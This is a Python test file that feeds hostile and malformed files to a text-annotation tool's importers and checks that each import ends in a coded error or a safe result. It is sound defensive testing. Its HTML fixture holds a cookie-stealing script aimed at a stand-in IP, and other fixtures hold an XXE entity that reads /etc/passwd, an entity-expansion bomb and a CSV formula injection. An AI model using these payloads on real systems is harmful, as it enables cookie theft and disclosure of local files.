"""Hostile input: every document importer (txt, html, jsonl, csv) meets files made to break it.

Each file gets a clear coded error or is imported safely: never a traceback, nothing run or
fetched (sockets, DNS and child processes are trapped during every import), and an import that
is refused leaves the project exactly as it was. The nasty files are generated here, in
tmp_path, from fixed seeds: nothing binary is committed.

Bugs these found, fixed in annotator/formats/: a lone surrogate escape ("\\ud800") in JSONL and
JSON nested ~1000 deep crashed the import with a traceback; a NUL byte after the first 8 KB of a
.txt file went into the database (SQLite's length() stops at it, so no span after it could be
made); a line of many "[photo/" made the scraped-page parser quadratic (minutes for 1.4 MB); a
CSV that is not UTF-8 was reported as a missing column, and a huge first line was echoed whole.
"""

from __future__ import annotations

import codecs
import csv
import hashlib
import io
import json
import os
import random
import re
import socket
import sqlite3
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from annotator.cli import cli
from annotator.core.errors import AnnotatorError, ImportFailed
from annotator.core.models import DocumentDraft, ImportProblem
from annotator.formats.importers import read_records
from annotator.formats.reading import FORMATS, ImportOptions
from annotator.project import Project
from tests.reliability.conftest import copy_project

CODE = re.compile(r"^[EW]\d{3}$")  # W: a warning about a record that went in (W311, a false date)
# RELIABILITY_EXAMPLES_SCALE=20 runs every property 20x longer, to explore before a release.
SCALE = int(os.environ.get("RELIABILITY_EXAMPLES_SCALE", "1"))
ARTICLE = ("The minister reaffirmed the commitment to extended deterrence for the ally in a long "
           "statement on Tuesday. Officials said the talks would continue next month.")


# ---------------------------------------------------------------------------- guards
@pytest.fixture
def trapped(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Record (and refuse) any attempt to reach the network or run a program. Recorded, not
    only raised: an importer that swallows the exception must still fail the test."""
    attempts: list[str] = []

    def refuse(what: str) -> Callable[..., None]:
        def trap(*args: object, **kwargs: object) -> None:
            attempts.append(f"{what}{args[1:] if args else ''}")
            raise OSError(f"the test forbids {what} during an import")
        return trap

    monkeypatch.setattr(socket.socket, "connect", refuse("socket.connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("socket.connect_ex"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    monkeypatch.setattr(subprocess.Popen, "__init__", refuse("subprocess"))
    monkeypatch.setattr(os, "system", refuse("os.system"))
    return attempts


def test_the_trap_catches_what_it_should(trapped: list[str]) -> None:
    """The guard is real: a connection, a name lookup and a child process are all caught."""
    with socket.socket() as sock, pytest.raises(OSError):
        sock.connect(("198.51.100.7", 80))
    for attempt in (lambda: socket.create_connection(("example.org", 80), timeout=0.1),
                    lambda: subprocess.run(["true"], check=False)):
        with pytest.raises(OSError):
            attempt()
    assert [t.split("(")[0] for t in trapped] == ["socket.connect", "getaddrinfo", "subprocess"]


def dump_digest(path: Path) -> str:
    """Every row of every table: 'unchanged' means unchanged, not 'same document count'."""
    conn = sqlite3.connect(path)
    try:
        return hashlib.sha256("\n".join(conn.iterdump()).encode("utf-8")).hexdigest()
    finally:
        conn.close()


# ---------------------------------------------------------------------------- the nasty corpus
@dataclass(frozen=True)
class Nasty:
    name: str  # the file name; its extension picks the importer
    make: Callable[[], bytes]
    imported: int = 0  # documents a non-strict import takes in
    codes: frozenset[str] = field(default_factory=frozenset)  # codes its problems may carry

    @property
    def fmt(self) -> str:
        return self.name.rsplit(".", 1)[1]


def _random(size: int, seed: int, low: int = 0) -> Callable[[], bytes]:
    return lambda: random.Random(seed).randbytes(size) if low == 0 else bytes(
        random.Random(seed).randrange(low, 256) for _ in range(size))


def _codes(*codes: str) -> frozenset[str]:
    return frozenset(codes)


HUGE = 4_000_000  # one line of 4 MB without a newline
HOSTILE_HTML = f"""<!DOCTYPE html><html><head><title>Hostile page</title>
<script>fetch('http://198.51.100.7/steal?c=' + document.cookie); document.write('INJECTED');
</script><script src="http://198.51.100.7/evil.js"></script>
<link rel="stylesheet" href="http://198.51.100.7/x.css"><link rel="prefetch" href="//198.51.100.7/p">
<meta http-equiv="refresh" content="0;url=http://198.51.100.7/"><base href="http://198.51.100.7/">
<style>@import url(http://198.51.100.7/i.css); body {{ background: url(http://198.51.100.7/b.png) }}
</style></head><body onload="alert('onload')">
<iframe src="http://198.51.100.7/frame"></iframe><iframe srcdoc="<script>alert(1)</script>">
</iframe><img src="http://198.51.100.7/img.png" onerror="alert('onerror')">
<img srcset="http://198.51.100.7/a.png 2x"><video poster="http://198.51.100.7/v.png"></video>
<object data="http://198.51.100.7/o.swf"></object><embed src="http://198.51.100.7/e.swf">
<article><h1>Hostile page</h1><p>{ARTICLE}</p>
<p>Both sides agreed on the main points of the plan, the ministry said in a statement.</p>
<script>alert('inline')</script><noscript><img src="http://198.51.100.7/n.png"></noscript>
<svg><image href="http://198.51.100.7/svg.png"/><script>alert('svg')</script></svg>
<a href="javascript:alert('link')">more</a></article></body></html>"""
XXE_HTML = f"""<?xml version="1.0"?><!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">
<!ENTITY remote SYSTEM "http://198.51.100.7/dtd"><!ENTITY a "aaaaaaaaaa">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
<html><body><article><p>{ARTICLE} Entity: &xxe; &remote; &c;</p></article></body></html>"""


def _jsonl(*records: object) -> Callable[[], bytes]:
    return lambda: b"".join(
        (r if isinstance(r, bytes) else json.dumps(r).encode()) + b"\n" for r in records)


NASTY: list[Nasty] = [
    # -- the same attacks on every importer
    *[case for ext in FORMATS for case in (
        Nasty(f"random.{ext}", _random(6000, 1), codes=_codes("E301")),
        Nasty(f"random-no-nul.{ext}", _random(6000, 2, low=1),
              codes=_codes("E303", "E304", "E309", "E310")),
        Nasty(f"empty.{ext}", lambda: b"", codes=_codes("E304")),
        Nasty(f"bom-only.{ext}", lambda: b"\xef\xbb\xbf", codes=_codes("E304", "E306")),
        Nasty(f"nul-after-8k.{ext}", lambda: b"a" * 9000 + b"\x00 after the NUL\n",
              codes=_codes("E304", "E306", "E308", "E309", "E310")),
        Nasty(f"latin-1.{ext}", lambda: "Café société, déjà vu.\n".encode("latin-1"),
              codes=_codes("E303", "E304")),
        # UTF-16 is read when it carries a BOM; without one, or with NULs after it, it is binary.
        Nasty(f"utf-16-no-bom.{ext}", lambda: ARTICLE.encode("utf-16-le"), codes=_codes("E301")),
        Nasty(f"utf-16-bom-then-nul.{ext}", lambda: codecs.BOM_UTF16_LE + b"\x00" * 64
              + ARTICLE.encode("utf-16-le"), codes=_codes("E301")),
        Nasty(f"utf-16-bom-then-junk.{ext}", lambda: codecs.BOM_UTF16_BE + bytes(
            random.Random(3).randrange(1, 256) for _ in range(6001)),
              codes=_codes("E303", "E304", "E306", "E309", "E310")),
    )],
    Nasty("huge-line.txt", lambda: b"word " * (HUGE // 5), imported=1,
          codes=_codes("W402")),  # imported, with a warning: 4,000,000 characters
    Nasty("huge-line.html", lambda: b"word " * (HUGE // 5), codes=_codes("E304")),
    Nasty("huge-line.jsonl", lambda: b"word " * (HUGE // 5), codes=_codes("E309")),
    Nasty("huge-line.csv", lambda: b"word " * (HUGE // 5), codes=_codes("E306")),
    # -- JSONL
    Nasty("huge-record.jsonl", _jsonl({"text": "word " * (HUGE // 5)}), imported=1,
          codes=_codes("W402")),
    Nasty("truncated.jsonl", lambda: b'{"text": "The minister reaff', codes=_codes("E309")),
    Nasty("truncated-after-good.jsonl", lambda: b'{"text": "A good one."}\n{"text": "cut',
          imported=1, codes=_codes("E309")),
    Nasty("deep-array.jsonl", lambda: b"[" * 100_000 + b"]" * 100_000 + b"\n",
          codes=_codes("E309")),
    Nasty("deep-object.jsonl",
          lambda: b'{"text": "x", "m": ' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"}\n",
          codes=_codes("E309")),
    Nasty("deep-990.jsonl",  # deep enough for Python's json, not for srsly's parser
          lambda: b'{"text": "x", "m": ' + b'{"a":' * 990 + b"1" + b"}" * 990 + b"}\n",
          codes=_codes("E309")),
    Nasty("wrong-types.jsonl", _jsonl(
        {"text": 5}, {"text": None}, {"text": ["a"]}, {"text": {"a": 1}}, [1, 2], "a string",
        None, 3.5, {"title": "no text field"}, {"text": "   "}, {"text": "nul \u0000 inside"},
        {"text": "Good despite odd fields.", "title": {"x": 1}, "meta": [1], "url": ["u"],
         "published": 2012, "source": None},
    ), imported=1, codes=_codes("E304", "E306", "E307", "E308")),
    Nasty("odd-numbers.jsonl", _jsonl(b'{"text": "nan", "x": NaN}',
                                      b'{"text": "big", "x": 123456789012345678901234567890}'),
          codes=_codes("E309")),
    Nasty("float-overflow.jsonl", _jsonl(b'{"text": "inf", "x": 1e400}',  # srsly reads inf
                                         b'{"text": "neg", "meta": {"y": [-2E+999]}}',
                                         b'{"text": "1e400 in a string is text", "x": 1e300}'),
          imported=1, codes=_codes("E309")),
    Nasty("lone-surrogate.jsonl", _jsonl(b'{"text": "half \\ud800 a pair"}',
                                         b'{"text": "ok", "meta": {"k": "\\udfff"}}',
                                         b'{"text": "a whole pair \\ud83d\\ude00 is fine"}'),
          imported=1, codes=_codes("E309")),
    Nasty("duplicate-ids.jsonl", _jsonl({"id": 1, "text": "First article."},
                                        {"id": 1, "text": "Second article, same id."},
                                        {"id": 2, "text": "First article."},
                                        {"id": 3, "text": "Dup key", "text ": "x"}),
          imported=3),
    Nasty("duplicate-keys.jsonl", _jsonl(b'{"text": "one", "text": "the last one wins"}'),
          imported=1),
    # -- CSV
    Nasty("unbalanced-quote.csv", lambda: b'text,title\n"never closed,t\nmore\nrows\n',
          codes=_codes("E310")),
    Nasty("header-only.csv", lambda: b"text,title\n", codes=_codes("E304")),
    Nasty("no-text-column.csv", lambda: b"body,title\nx,y\n", codes=_codes("E306")),
    Nasty("ragged.csv", lambda: b'text,title\na,b,c\nd\n"A good row.",t\n', imported=1,
          codes=_codes("E310")),
    Nasty("nul-in-cell.csv", lambda: b'text,title\n"a\x00b",t\n', codes=_codes("E301")),
    Nasty("nul-in-cell-late.csv", lambda: b"text,title\n" + b"ok row,t\n" * 1200
          + b'"a\x00b",t\n', imported=1, codes=_codes("E308", "E310")),
    Nasty("old-mac-newlines.jsonl", lambda: b'{"text": "A row."}\r{"text": "Another."}\r',
          imported=2),
    Nasty("utf-16-be.jsonl", lambda: codecs.BOM_UTF16_BE + json.dumps(
        {"text": ARTICLE + " (jsonl)"}).encode("utf-16-be"), imported=1),
    Nasty("huge-field.csv", lambda: b'text\n"' + b"x, " * (HUGE // 3) + b'"\n', imported=1,
          codes=_codes("W402")),
    Nasty("duplicate-columns.csv", lambda: b"text,text,title\nfirst,second,t\n", imported=1),
    Nasty("formula.csv", lambda: b'text,title\n"=HYPERLINK(""http://198.51.100.7"")",=1+1\n',
          imported=1),
    # Old Excel for Mac line ends (CR only): once refused with E310, now read row by row.
    Nasty("old-mac-newlines.csv", lambda: b"text,title\rA row.,t\rAnother.,u\r", imported=2),
    Nasty("utf-16.csv", lambda: f"text,title\r\n{ARTICLE} (csv),t\r\n".encode("utf-16"),
          imported=1),
    # -- HTML
    Nasty("hostile.html", lambda: HOSTILE_HTML.encode(), imported=1),
    Nasty("entities.html", lambda: XXE_HTML.encode(), imported=1, codes=_codes("E304")),
    Nasty("deep.html", lambda: b"<div>" * 100_000 + ARTICLE.encode() + b"</div>" * 100_000,
          codes=_codes("E304", "E305")),
    Nasty("not-markup.html", lambda: b"just some words, no markup", codes=_codes("E304")),
    # -- TXT (scraped pages)
    Nasty("caption-redos.txt",
          lambda: b"Title\nUpdated: 2012-10-25 09:58\n" + b"[photo/" * 200_000 + b"\n" +
          ARTICLE.encode() + b" (a)", imported=1),
    # A false date is left out (with a warning), not stored as the document's date.
    Nasty("bogus-date.txt", lambda: b"T\nUpdated: 2012-99-99 99:99\n" + ARTICLE.encode()
          + b" (b)", imported=1, codes=_codes("W311")),
    Nasty("utf-32.txt", lambda: (ARTICLE + " (utf-32)").encode("utf-32"), imported=1),
    Nasty("utf-16.html", lambda: HOSTILE_HTML.replace("Hostile page", "UTF-16 page").encode(
        "utf-16"), imported=1),
]


def _by_name() -> list[Nasty]:
    names = [case.name for case in NASTY]
    assert len(names) == len(set(names))
    return NASTY


# ---------------------------------------------------------------------------- the corpus, file by file
@pytest.fixture(scope="module")
def small_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "base.annotator"
    (folder / "one.jsonl").write_text(json.dumps({"text": ARTICLE}) + "\n", encoding="utf-8")
    with Project.create(path, annotator="alice") as project:
        project.import_paths([folder / "one.jsonl"])
    return path


@pytest.mark.parametrize("case", _by_name(), ids=lambda c: c.name)
def test_nasty_file(case: Nasty, small_project: Path, tmp_path: Path,
                    trapped: list[str]) -> None:
    source = tmp_path / case.name
    source.write_bytes(case.make())

    # --strict: all of the file, or a coded refusal that leaves every row as it was.
    strict_path = copy_project(small_project, tmp_path / "strict.annotator")
    before = dump_digest(strict_path)
    started = time.perf_counter()
    with Project.open(strict_path, annotator="alice") as project:
        try:
            report = project.import_paths([source], ImportOptions(strict=True))
        except ImportFailed as exc:
            assert CODE.match(exc.code) and str(exc).startswith(f"[{exc.code}]")
            refused = True
        else:
            refused = False
            assert report.imported == case.imported and not report.problems
    if refused:
        assert dump_digest(strict_path) == before, "a refused import changed the project"
        assert case.codes, "refused a file that should import"

    # Default: the good records in, each bad one reported with a code.
    path = copy_project(small_project, tmp_path / "lenient.annotator")
    with Project.open(path, annotator="alice") as project:
        report = project.import_paths([source], ImportOptions())
        assert report.imported == case.imported, [str(p) for p in report.problems]
        codes = {problem.code for problem in report.problems}
        assert all(CODE.match(c) for c in codes) and codes <= case.codes, codes
        if not case.imported:
            assert report.problems, "nothing imported, and nobody was told why"
        for doc_id in report.doc_ids:
            _assert_stored_safely(project, doc_id)
    assert time.perf_counter() - started < 15, "hostile input must not stall the import"
    assert trapped == [], "an import reached for the network or ran a program"


def _assert_stored_safely(project: Project, doc_id: int) -> None:
    doc = project.document(doc_id)
    assert doc.text.strip() and "\x00" not in doc.text
    # SQLite sees the same text Python does (no NUL cut, no lone surrogate): a span at the very
    # end can be made.
    length = project.db.execute("SELECT length(text) FROM documents WHERE id = ?",
                                [doc_id]).fetchone()[0]
    assert length == len(doc.text)
    json.dumps(doc.meta)


def test_hostile_html_keeps_the_article_and_nothing_active(small_project, tmp_path, trapped):
    source = tmp_path / "page.html"
    source.write_text(HOSTILE_HTML, encoding="utf-8")
    path = copy_project(small_project, tmp_path / "p.annotator")
    with Project.open(path, annotator="alice") as project:
        doc = project.document(project.import_paths([source]).doc_ids[0])
    assert ARTICLE in doc.text
    # The page's declared address may be kept as its url (metadata, never visited).
    stored = doc.text + json.dumps(doc.meta) + (doc.title or "")
    for active in ("INJECTED", "alert", "fetch(", "javascript:", "onerror", "evil.js"):
        assert active not in stored
    assert "198.51.100.7" not in doc.text
    assert trapped == []


def test_entities_are_not_expanded_from_files_or_the_network(small_project, tmp_path, trapped):
    source = tmp_path / "xxe.html"
    source.write_text(XXE_HTML, encoding="utf-8")
    path = copy_project(small_project, tmp_path / "p.annotator")
    with Project.open(path, annotator="alice") as project:
        report = project.import_paths([source])
        stored = " ".join(project.document(i).text for i in report.doc_ids)
    assert "root:" not in stored and "a" * 100 not in stored
    assert trapped == []


def test_the_whole_corpus_through_the_cli(tmp_path, trapped):
    """What a user sees: coded lines, a summary and `[E320]` with exit 1 (records were
    refused); with --strict, one coded line,
    exit 1, and the project as it was. Never a traceback or an internal error (E999)."""
    folder = tmp_path / "nasty"
    folder.mkdir()
    for case in NASTY:
        if "huge" not in case.name:  # the big ones were shown above; keep this test quick
            (folder / case.name).write_bytes(case.make())
    project = tmp_path / "p.annotator"
    runner = CliRunner()
    result = runner.invoke(cli, ["import", str(project), str(folder)])
    assert result.exit_code == 1 and "[E320]" in result.output, result.output
    assert "Traceback" not in result.output and "E999" not in result.output
    lines = result.stderr.splitlines()
    assert lines and all(line.startswith(("[E", "[W", "... and ", "Error: [E320]")) for line in lines)
    assert re.search(r"\d+ imported, \d+ duplicates skipped, \d+ errors", result.stdout)

    before = dump_digest(project)
    strict = runner.invoke(cli, ["import", str(project), str(folder), "--strict"])
    assert strict.exit_code == 1
    assert re.fullmatch(r"Error: \[E\d{3}\] [^\n]+\n", strict.output), strict.output
    assert dump_digest(project) == before
    assert trapped == []


# ---------------------------------------------------------------------------- properties
def _records(path: Path, fmt: str) -> Iterator[DocumentDraft | ImportProblem]:
    yield from read_records(path, ImportOptions(format=fmt))


def _check_records(path: Path, fmt: str) -> list[DocumentDraft]:
    """The reader's whole contract: drafts with storable text, or coded problems, or one coded
    ImportFailed; any other exception is a bug."""
    drafts = []
    try:
        for record in _records(path, fmt):
            if isinstance(record, ImportProblem):
                assert CODE.match(record.code), record
                continue
            assert isinstance(record, DocumentDraft)
            assert record.text.strip() and "\x00" not in record.text
            record.text.encode("utf-8")  # no lone surrogates
            json.dumps(record.meta, ensure_ascii=False).encode("utf-8")
            drafts.append(record)
    except AnnotatorError as exc:
        assert CODE.match(exc.code)
    return drafts


_text_bytes = st.one_of(
    st.binary(max_size=3000),
    st.text(max_size=2000).map(lambda s: s.encode("utf-8")),
    st.lists(st.sampled_from([b"{", b"}", b"[", b"]", b'"', b",", b":", b"\n", b"\r", b"\\u",
                              b"text", b"<p>", b"</p>", b"<script>", b"\x00", b"\xff", b"\xef\xbb\xbf",
                              b"Updated: 2012-10-25", b"[photo/", b"a b c d e f g h.", b" "]),
             max_size=300).map(b"".join),
)


@settings(max_examples=150 * SCALE, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(data=_text_bytes, fmt=st.sampled_from(FORMATS))
def test_any_bytes_give_drafts_or_coded_problems(tmp_path: Path, trapped: list[str], data: bytes,
                                                 fmt: str) -> None:
    path = tmp_path / f"input.{fmt}"
    path.write_bytes(data)
    _check_records(path, fmt)
    assert trapped == []


_json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(st.characters(exclude_categories=()), max_size=40),  # lone surrogates included
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner,
                                                                 max_size=4),
    max_leaves=20,
)
_records_strategy = st.lists(
    st.one_of(_json_values,
              st.fixed_dictionaries({"text": st.text(st.characters(exclude_categories=()),
                                                     max_size=200)},
                                    optional={"title": _json_values, "meta": _json_values,
                                              "published": _json_values})),
    min_size=1, max_size=8)


@pytest.fixture(scope="module")
def property_project(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Project]:
    path = tmp_path_factory.mktemp("property") / "p.annotator"
    with Project.create(path, annotator="alice") as project:
        yield project


@settings(max_examples=80 * SCALE, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(records=_records_strategy)
def test_any_json_lines_import_or_are_refused_with_a_code(property_project: Project,
                                                          tmp_path: Path, records: list) -> None:
    path = tmp_path / "records.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="ascii")
    report = property_project.import_paths([path])
    assert all(CODE.match(p.code) for p in report.problems)
    # Every line is accounted for: imported (with exactly its text), a duplicate, or a coded
    # problem naming that line; a warning is about a line that was imported.
    assert report.imported + report.duplicates + report.errors == len(records)
    for doc_id in report.doc_ids:
        doc = property_project.document(doc_id)
        line = int((doc.origin or "").rsplit(":", 1)[1])
        assert doc.text == records[line - 1]["text"] and "\x00" not in doc.text
    for problem in report.problems:
        if problem.warning:
            continue
        record = records[problem.line - 1]
        text = record.get("text") if isinstance(record, dict) else None
        if problem.code != "E309":  # E309: JSON we cannot store (depth, surrogates, huge ints)
            assert not (isinstance(text, str) and text.strip() and "\x00" not in text), problem


_cell = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=120)


@settings(max_examples=100 * SCALE, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.tuples(_cell, _cell), min_size=1, max_size=6))
def test_csv_written_by_the_csv_module_reads_back_exactly(tmp_path: Path, rows: list) -> None:
    """Quotes, commas, CR, LF and CRLF inside cells: the text comes back as written."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(["text", "title"])
    writer.writerows(rows)
    path = tmp_path / "t.csv"
    path.write_bytes(buffer.getvalue().encode("utf-8"))
    drafts = _check_records(path, "csv")
    expected = [text for text, _ in rows if text.strip()]
    assert [d.text for d in drafts] == expected


@settings(max_examples=100 * SCALE, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=2000))
def test_a_text_file_becomes_one_exact_slice_of_itself(tmp_path: Path, text: str) -> None:
    path = tmp_path / "t.txt"
    path.write_bytes(text.encode("utf-8"))
    drafts = _check_records(path, "txt")
    if not text.removeprefix("\ufeff").strip():
        assert drafts == []
    else:
        assert len(drafts) == 1 and drafts[0].text in text


@settings(max_examples=150 * SCALE, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(query=st.text(max_size=60))
def test_any_search_text_is_words_not_syntax(property_project: Project, query: str) -> None:
    property_project.documents(search=query, limit=5)
    property_project.count_documents(search=query)
